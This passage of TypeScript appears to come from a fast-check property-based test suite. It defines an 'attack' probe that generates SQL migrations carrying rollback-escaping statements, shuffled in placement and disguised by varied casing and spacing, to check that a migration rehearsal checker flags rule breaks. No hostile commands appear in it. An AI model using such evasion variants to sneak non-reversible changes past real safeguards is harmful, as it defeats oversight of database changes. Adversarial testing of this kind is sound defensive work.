      else if ("lit" in word) out.push(this.fill(word.lit));
      else out.push(`${word.tag} ${this.words(word.body)} ${word.tag}`);
    }
    return out.join("");
  }

  statement(s: Stmt): string {
    // A meta-command is a whole line for psql; it must not share a line with SQL.
    return "meta" in s ? `\n${this.fill(s.meta)}\n` : `${this.words(s.words)};\n`;
  }
}

function referencesTable(escape: Escape): boolean {
  return JSON.stringify(escape.stmts).includes(TABLE);
}

/** Where the escapes really go: those that name the probe's table cannot run before it exists. */
function placementOf(value: Value): Value["placement"] {
  return value.placement === "start" && value.escapes.some(referencesTable)
    ? "after-create"
    : value.placement;
}

export function migrationOf(value: Value): string {
  const suffix = labelOf(value).slice(0, 10);
  const renderer = new Renderer(value.style, { table: `fc_p08_${suffix}`, suffix });
  const [create, insert] = prefixStatements(value.prefix);
  const escapes = value.escapes.flatMap((e) => e.stmts);
  const placement = placementOf(value);
  const order: readonly Stmt[] =
    placement === "start"
      ? [...escapes, create, insert]
      : placement === "after-create"
        ? [create, ...escapes, insert]
        : [create, insert, ...escapes];
  return order.map((s) => renderer.statement(s)).join("");
}

/** The first escape that breaks a rule in this mode: the one a shrunk finding names. */
function firstApplicable(value: Value): Escape | undefined {
  return value.escapes.find((e) => MODES_OF[e.cls].includes(value.mode));
}

const styleArb: fc.Arbitrary<Style> = fc.record({
  casing: pick<Casing>("upper", "lower", "title", "alternating", "random"),
  caseSeed: fc.integer({ min: 1, max: 2 ** 31 - 1 }),
  gaps: fc.array(fc.integer({ min: 0, max: GAPS.length - 1 }), { maxLength: 6 }),
});

/**
 * The mode is drawn among those the first escape applies to, inside the map: when the shrinker
 * replaces the first escape, the mode follows, so a shrunk value still breaks a rule.
 */
const valueArb: fc.Arbitrary<Value> = fc
  .record({
    entropy: entropy(),
    modePick: fc.nat(),
    prefix: prefixArb,
    placement: pick("end", "after-create", "start"),
    escapes: fc.array(escapeArb, { minLength: 1, maxLength: 3 }),
    style: styleArb,
  })
  .map(({ modePick, escapes, ...rest }): Value => {
    const modes = MODES_OF[escapes[0]?.cls ?? "sequence"];
    return { ...rest, escapes, mode: modes[modePick % modes.length] ?? "transactional" };
  });

export const family: ProbeFamily<Value> = {
  id: "P08",
  name: "rollback-escape",
  operation: "rehearse",
  role: "attack",
  rules: ["C2", "C3", "C4", "C5", "C6"],
  minRuns: 150,
  arbitrary: () => valueArb,
  render: (value, ctx) =>
    Promise.resolve(renderMutated(rehearsalRequest(ctx, labelOf(value), value.mode, migrationOf(value)), [])),
  breaks: (value) => {
    const escape = firstApplicable(value);
    return escape === undefined ? undefined : `${RULE_OF[escape.cls]}: ${escape.what}`;
  },
  describe: (value) =>
    `${value.mode}: ${value.escapes.map((e) => e.what).join("; ")} (${placementOf(value)}, ${value.style.casing} case)`,
};
